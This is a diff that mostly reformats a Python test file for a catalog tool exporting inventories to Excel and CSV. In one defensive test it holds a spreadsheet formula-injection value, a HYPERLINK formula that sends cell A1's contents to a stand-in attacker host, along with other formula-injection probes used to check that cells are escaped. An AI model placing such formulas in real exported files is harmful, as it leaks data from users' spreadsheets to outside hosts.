     wb = openpyxl.load_workbook(io.BytesIO(raw))
     assert wb.sheetnames == list(sample.metamodel.kinds)
-    for kind, ws in zip(wb.sheetnames, wb.worksheets):
+    for kind, ws in zip(wb.sheetnames, wb.worksheets, strict=False):
         assert ws.freeze_panes == "A2"
         assert ws.cell(1, 1).value == "Mã tham chiếu / Reference"
         assert ws.cell(1, 2).value == "Tên (tiếng Việt) / Name (Vietnamese)"
         csv_rows = list(csv.reader(io.StringIO(csvs[kind])))
         assert ws.max_row == len(csv_rows), kind  # a row per entity of the kind, as in the CSV
-        expected = [e for e in data["entities"] if e["ref"].split(":")[0] == kind
-                    and (e.get("valid_from") or "") <= AFTER < (e.get("valid_to") or "9999")]
+        expected = [
+            e
+            for e in data["entities"]
+            if e["ref"].split(":")[0] == kind and (e.get("valid_from") or "") <= AFTER < (e.get("valid_to") or "9999")
+        ]
         assert ws.max_row == 1 + len(expected), kind  # independently: the sample's entities valid on AFTER
         assert [c.value for c in ws["A"]][1:] == [r[0] for r in csv_rows[1:]], kind
     spec = sample.metamodel.kinds["system"]
@@ -692,8 +864,9 @@ def test_xlsx_cells_cannot_become_formulas() -> None:
     from diagrams.inventory import inventory_xlsx
 
     hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
-    e = entity("system:x", "x", owner="organization:o").model_copy(update={
-        "name": LocalText(vi=hostile, en="+1\x07bell"), "description": LongText(vi="@SUM(A1)", en="-2")})
+    e = entity("system:x", "x", owner="organization:o").model_copy(
+        update={"name": LocalText(vi=hostile, en="+1\x07bell"), "description": LongText(vi="@SUM(A1)", en="-2")}
+    )
     day = dt.date(2025, 8, 1)
     raw = inventory_xlsx([e], DEFAULT, day)
     assert raw == inventory_xlsx([e], DEFAULT, day)
@@ -713,7 +886,7 @@ def test_one_byte_change_to_any_file_fails_naming_it(sample: CatalogStore, tmp_p
     assert "inventory/inventory.xlsx" in contents  # the loop below changes one byte of it too
     for name, (_, data) in contents.items():
         pos = len(data) // 2
-        bad_data = data[:pos] + bytes([data[pos] ^ 0x01]) + data[pos + 1:]
+        bad_data = data[:pos] + bytes([data[pos] ^ 0x01]) + data[pos + 1 :]
         bad = tmp_path / "bad.zip"
         with zipfile.ZipFile(bad, "w") as z:
             for other, (info, d) in contents.items():
@@ -728,11 +901,19 @@ def test_one_byte_change_to_any_file_fails_naming_it(sample: CatalogStore, tmp_p
 
 
 def test_csv_cells_cannot_become_formulas() -> None:
-    assert [safe_cell(v) for v in ("=1+1", "+SUM(A1)", "-2", "@x", "Sở", None, ["a", "b"])] == \
-        ["'=1+1", "'+SUM(A1)", "'-2", "'@x", "Sở", "", "a; b"]
+    assert [safe_cell(v) for v in ("=1+1", "+SUM(A1)", "-2", "@x", "Sở", None, ["a", "b"])] == [
+        "'=1+1",
+        "'+SUM(A1)",
+        "'-2",
+        "'@x",
+        "Sở",
+        "",
+        "a; b",
+    ]
 
 
 # --- command line --------------------------------------------------------------------------------------------------
+
 
 def test_cli_commands(tmp_path: Path) -> None:
     """The commands against a catalog file (the command line names its store by URL; one backend is enough)."""
@@ -752,8 +933,23 @@ def test_cli_commands(tmp_path: Path) -> None:
     r = runner.invoke(app, ["diagram", "ioc", "--ref", IOC, "--as-of", AFTER, "-o", str(out), "--store", url])
     assert r.exit_code == 0, r.output
     assert out.read_bytes() == draw(sample, "ioc", ViewParams(ref=IOC, as_of=AFTER), "svg")
-    r = runner.invoke(app, ["diagram", "landscape", "-f", "dot", "-o", str(tmp_path / "l.dot"), "--store", url,
-                            "--lang", "en", "--as-of", AFTER])
+    r = runner.invoke(
+        app,
+        [
+            "diagram",
+            "landscape",
+            "-f",
+            "dot",
+            "-o",
+            str(tmp_path / "l.dot"),
+            "--store",
+            url,
+            "--lang",
+            "en",
+            "--as-of",
+            AFTER,
+        ],
+    )
     assert r.exit_code == 0 and "Legend" in (tmp_path / "l.dot").read_text(encoding="utf-8")
     r = runner.invoke(app, ["diagram", "nope", "-o", str(tmp_path / "x.svg"), "--store", url])
     assert isinstance(r.exception, CatalogError) and "available" in str(r.exception)
@@ -769,9 +965,12 @@ def test_a_write_is_drawn_at_once(tmp_path: Path) -> None:
     store = make_store("sqlite", tmp_path)
     run_import(store, SAMPLE)
     assert "system:hcm-late" not in build(store, "ioc", ViewParams(ref=IOC)).nodes
-    load(store, tmp_path / "late.json",
-         [entity("system:hcm-late", "Hệ thống muộn", owner="organization:hcm-skhcn")],
-         [rel("feeds", "system:hcm-late", IOC)])
+    load(
+        store,
+        tmp_path / "late.json",
+        [entity("system:hcm-late", "Hệ thống muộn", owner="organization:hcm-skhcn")],
+        [rel("feeds", "system:hcm-late", IOC)],
+    )
     assert "system:hcm-late" in build(store, "ioc", ViewParams(ref=IOC)).nodes
     store.close()
 
@@ -798,8 +997,9 @@ def test_label_wrapping_is_textwraps() -> None:
     for _ in range(20000):
         text = clean("".join(rnd.choice(chars) for _ in range(rnd.randint(0, 90))))
         for width in (1, 3, 24, 28, 48):
-            assert wrap(text, width) == textwrap.wrap(text, width=width, break_long_words=True,
-                                                      break_on_hyphens=False), (text, width)
+            assert wrap(text, width) == textwrap.wrap(
+                text, width=width, break_long_words=True, break_on_hyphens=False
+            ), (text, width)
 
 
 def test_clean_makes_one_printable_line_of_any_character() -> None:
